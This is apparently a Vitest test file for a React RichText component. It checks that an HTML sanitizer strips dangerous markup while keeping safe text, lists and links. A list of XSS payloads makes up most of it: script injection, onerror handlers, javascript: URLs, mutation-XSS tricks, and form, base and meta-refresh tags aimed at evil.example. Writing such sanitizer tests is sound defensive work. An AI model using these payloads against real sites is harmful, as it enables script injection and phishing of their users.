import { fireEvent, render, screen } from '@testing-library/react';
import { expect, test, vi } from 'vitest';
import { NavigationContext } from '../../ui/NavigationContext.tsx';
import { resolveRichText } from './blocks.server.ts';
import RichText from './RichText.tsx';

const go = vi.fn<(path: string) => void>();

async function show(html: string, leadsPage = false) {
  const properties = await resolveRichText({ heading: 'Reading', html }, { leadsPage });
  const { container } = render(
    <NavigationContext value={{ go, back: () => undefined, reload: () => Promise.resolve() }}>
      <RichText {...properties} />
    </NavigationContext>,
  );
  const text = container.querySelector('section > div');
  if (text === null) throw new Error('The text is missing.');
  return text;
}

test('the section has the anchor as its id, and no id without one', async () => {
  const named = await resolveRichText({ heading: 'History', html: '<p>Here.</p>', anchor: 'history' }, {});
  const inSite = (text: React.ReactNode) => (
    <NavigationContext value={{ go, back: () => undefined, reload: () => Promise.resolve() }}>{text}</NavigationContext>
  );
  const { container, rerender } = render(inSite(<RichText {...named} />));
  expect(container.querySelector('section')?.id).toBe('history');
  rerender(inSite(<RichText heading="None" />));
  expect(container.querySelector('section')?.hasAttribute('id')).toBe(false);
});

const attempts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<p id="app" name="page-data" onclick="alert(1)">x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
];
const harmless = new Set(['href', 'rel', 'target', 'scope', 'colspan', 'rowspan', 'start']);

test.each(attempts)('PG-14 sanitizes %s', async (html) => {
  const ran = vi.fn<() => void>();
  vi.stubGlobal('alert', ran);
  const text = await show(html);
  for (const element of text.querySelectorAll('*')) {
    expect(['P', 'A', 'TABLE', 'TBODY']).toContain(element.tagName);
    expect(element.getAttributeNames().filter((name) => !harmless.has(name))).toEqual([]);
    expect(element.getAttribute('href') ?? '/').toMatch(/^(?:https?:|mailto:|tel:|\/(?!\/))/);
  }
  expect(ran).not.toHaveBeenCalled();
});

test('PG-14 keeps text, lists and links, and opens external links in a new tab', async () => {
  const html =
    '<h2>Rules</h2><ul><li><strong>One</strong></li></ul><p><a href="/terms">Terms</a> <a href="mailto:help@foyer.example">Mail</a></p>';
  expect((await show(html)).innerHTML).toBe(html);
  expect((await show('<a href="https://help.example">Help</a>')).innerHTML).toBe(
    '<a href="https://help.example" rel="noopener noreferrer" target="_blank">Help</a>',
  );
});

test('a link to this site navigates without a reload', async () => {
  await show('<p><a href="/terms">Terms</a></p>');
  fireEvent.click(screen.getByText('Terms'));
  expect(go).toHaveBeenCalledWith('/terms');
});

test('the first text of a page has the heading of the page', async () => {
  await show('<h1>Inside</h1>', true);
  expect(screen.getAllByRole('heading', { level: 1 }).map((heading) => heading.textContent)).toEqual(['Reading']);
});
